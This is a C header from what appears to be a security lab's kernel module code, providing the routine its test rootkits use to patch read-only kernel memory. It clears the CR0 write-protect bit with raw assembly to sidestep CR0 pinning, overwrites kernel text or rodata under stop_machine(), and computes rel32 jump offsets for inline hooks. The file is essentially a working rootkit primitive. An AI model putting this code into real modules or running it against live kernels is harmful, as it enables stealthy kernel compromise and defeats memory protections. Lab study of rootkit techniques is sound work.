/* SPDX-License-Identifier: GPL-2.0 */
/*
 * How the lab's test rootkits write to read-only kernel memory: the way LKM rootkits do it.
 * Clear CR0.WP with a raw `mov %cr0` (on 6.1 write_cr0() re-sets WP: CR0 pinning), store, set
 * WP again. The store runs under stop_machine(), so no other CPU executes the bytes while they
 * change: rootkits often skip that; the lab guest must not crash for it.
 */
#ifndef PG_PATCH_H
#define PG_PATCH_H

#include <linux/stop_machine.h>
#include <linux/string.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>

struct pg_patch {
	void *addr;
	const void *bytes;
	size_t len;
};

static inline void pg_cr0_raw(unsigned long value)
{
	asm volatile("mov %0, %%cr0" : "+r"(value) : : "memory");
}

static int pg_patch_locked(void *arg)
{
	struct pg_patch *p = arg;
	unsigned long cr0 = read_cr0();

	pg_cr0_raw(cr0 & ~X86_CR0_WP);
	memcpy(p->addr, p->bytes, p->len);
	pg_cr0_raw(cr0);
	return 0;
}

/* Write `len` bytes over read-only kernel memory (text or rodata) at `addr`. */
static inline int pg_patch(void *addr, const void *bytes, size_t len)
{
	struct pg_patch p = { .addr = addr, .bytes = bytes, .len = len };

	return stop_machine(pg_patch_locked, &p, NULL);
}

/* The rel32 of a jmp/call at `insn` (of `size` bytes) that would reach `dest`, if it fits. */
static inline bool pg_rel32(unsigned long insn, size_t size, unsigned long dest, s32 *rel)
{
	long delta = (long)(dest - (insn + size));

	if (delta != (s32)delta)
		return false;
	*rel = (s32)delta;
	return true;
}

#endif
